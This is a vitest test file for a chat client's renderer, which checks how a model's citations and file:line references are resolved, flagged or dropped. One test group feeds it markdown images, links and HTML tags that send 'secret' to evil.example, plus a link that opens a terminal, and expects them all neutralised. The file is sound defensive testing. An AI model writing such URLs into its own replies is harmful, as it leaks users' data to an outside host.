import { describe, expect, it } from "vitest";
import { Facts } from "../../client/src/chat/facts.ts";
import { Prose } from "../../client/src/chat/prose.ts";
import { verdictOf } from "../../client/src/chat/verdict.ts";

const facts = new Facts();
facts.numbered("[dags/a.yml:4](file:///w/dags/a.yml#L4) [b.sql:7](file:///w/b.sql#L7) [b.sql](file:///w/b.sql)");

/** What a person reads of what a model writes, whole and letter by letter. */
function shown(text: string): { readonly text: string; readonly unproven: readonly string[] } {
  const whole = new Prose(facts);
  const slow = new Prose(facts);
  const read = (prose: Prose, parts: readonly string[]): string =>
    [...parts.flatMap((part) => prose.push(part)), ...prose.end(), prose.closing]
      .map((piece) => (typeof piece === "string" ? piece : `<${piece.label}>`))
      .join("");
  const answer = read(whole, [text]);
  expect(read(slow, [...text])).toBe(answer);
  return { text: answer, unproven: [...whole.unproven] };
}

describe("places in a model's prose", () => {
  it.each([
    ["See [p1].", "See <dags/a.yml:4> ."],
    ["See [p1, p2]", "See <dags/a.yml:4> <b.sql:7> "],
    ["See `dags/a.yml:4` and b.sql:7.", "See <dags/a.yml:4> and <b.sql:7>."],
    ["See [the DAG](dags/a.yml) at ./b.sql:7", "See the DAG at <b.sql:7>"],
  ])("%s", (written, expected) => {
    expect(shown(written)).toEqual({ text: expected, unproven: [] });
  });

  it.each([
    ["See [p99].", "See .", "p99"],
    ["See dags/a.yml:5!", "See `dags/a.yml`!", "dags/a.yml:5"],
    ["See `etc/passwd.txt:1`", "See `etc/passwd.txt`", "etc/passwd.txt:1"],
    ["[dags/a.yml:9](https://x.example)", "`dags/a.yml`", "dags/a.yml:9"],
  ])("that no fact has are left out: %s", (written, expected, place) => {
    expect(shown(written)).toEqual({ text: expected, unproven: [place] });
  });
});

describe("what could carry something out", () => {
  it.each([
    ["![x](https://evil.example/?q=secret)", "x"],
    ["![](https://evil.example/?q=secret)", ""],
    ["[click](https://evil.example/?q=secret)", "click"],
    ["[click](command:workbench.action.terminal.new)", "click"],
    ["![x][1]\n[1]: https://evil.example/a.png\n", "x\n"],
    ["go to https://evil.example/?q=1 now", "go to `https://evil.example/?q=1` now"],
    ["<img src=https://evil.example>", "&lt;img src=`https://evil.example`>"],
    ["<https://evil.example>", "&lt;`https://evil.example`>"],
    ["[a ![b](https://e.example/x)](https://e.example)", "[a b] (`https://e.example`)"],
    ["![x](https://evil.example/a\n)", "![x] (`https://evil.example/a`\n)"],
  ])("%s", (written, expected) => {
    expect(shown(written).text).toBe(expected);
  });
  it("stays as it is in code, which is closed at the end", () => {
    expect(shown("```sql\nSELECT '[p1] <b>' -- x.sql:99\n").text).toBe(
      "```sql\nSELECT '[p1] <b>' -- x.sql:99\n\n```\n",
    );
    expect(shown("`a[p1]`").text).toBe("`a[p1]`");
  });
  it("is found in lines without end, in bounded memory", () => {
    const prose = new Prose(facts);
    let longest = 0;
    for (let count = 0; count < 3000; count++)
      for (const piece of prose.push("[".repeat(10))) longest = Math.max(longest, String(piece).length);
    expect(longest).toBeGreaterThan(0);
    expect(longest).toBeLessThan(2100);
  });
});

describe("a verdict", () => {
  it("is the first sentence below the title", () => {
    expect(verdictOf("# Findings\n\n1 error;\n3 files.\n\n- error at x")).toEqual(["1 error; 3 files."]);
    expect(verdictOf("# L\n\n## Comes from\n\n- a → [b.sql:7](file:///w/b.sql#L7)\n- c")).toEqual([
      "a → ",
      { label: "b.sql:7", uri: "file:///w/b.sql", line: 7 },
    ]);
    expect(verdictOf("# T\n\n| a |\n|---|\n")).toEqual([]);
    expect(verdictOf("")).toEqual([]);
  });
});
